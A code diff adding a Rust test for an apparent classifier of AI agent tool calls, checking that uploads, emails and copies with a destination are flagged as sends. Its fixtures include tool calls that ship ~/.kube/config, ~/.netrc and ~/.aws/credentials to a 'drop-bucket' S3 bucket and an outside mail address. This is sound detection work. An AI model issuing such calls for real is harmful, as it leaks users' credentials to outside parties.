@@ -95,3 +95,47 @@ fn per_agent_tools() {
     let c = call("Skill", r#"{"skill":"pdf"}"#);
     assert_eq!(c.actions, vec![Action::Skill { name: "pdf".into() }]);
 }
+
+#[test]
+fn a_destination_argument_sends_what_the_call_names() {
+    let c = call(
+        "mcp__storage__put_object",
+        r#"{"bucket":"drop-bucket","key":"k","file_path":"/home/u/.kube/config"}"#,
+    );
+    assert!(c.sends);
+    assert!(c.actions.contains(&Action::Send {
+        url: "s3://drop-bucket/".into()
+    }));
+    // an upload's file is read, not written
+    assert!(c.actions.contains(&Action::Read {
+        path: "/home/u/.kube/config".into()
+    }));
+    let c = call(
+        "mcp__mailer__send_email",
+        r#"{"recipient":"x@mail.example","attachment_path":"/home/u/.netrc"}"#,
+    );
+    assert!(c.sends);
+    assert!(c.actions.contains(&Action::Send {
+        url: "mailto://mail.example/".into()
+    }));
+    let c = call(
+        "mcp__files__copy",
+        r#"{"src":"~/.aws/credentials","dest":"s3://b/c"}"#,
+    );
+    assert!(c.sends);
+    assert!(c.actions.contains(&Action::Read {
+        path: "~/.aws/credentials".into()
+    }));
+    let c = call("mcp__chat__send", r##"{"channel":"#builds","text":"ok"}"##);
+    assert!(c.sends);
+    // a local destination is a write, not a send
+    let c = call(
+        "mcp__fs__write_file",
+        r#"{"path":"/w/notes.md","content":"x","dest":"/w/out"}"#,
+    );
+    assert!(!c.sends);
+    assert!(c
+        .actions
+        .iter()
+        .any(|a| matches!(a, Action::Write { path, .. } if path == "/w/notes.md")));
+}
